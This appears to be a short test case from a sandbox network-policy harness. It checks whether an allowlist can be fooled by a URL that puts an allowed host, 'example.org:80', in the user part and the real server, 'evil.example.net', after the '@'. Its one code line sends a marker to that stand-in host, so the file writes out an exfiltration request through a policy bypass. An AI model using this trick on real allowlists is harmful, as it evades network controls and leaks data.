# /// attack
# guarantee = "network"
# summary = "Hides the name of the server behind a listed one as the user of a URL."
# reference = "RFC 3986, 3.2.1"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy is not a port" }
# ///

from kit import get, judge, target

judge(get("evil.example.net", "/" + target("MARKER"), named="example.org:80@evil.example.net"))
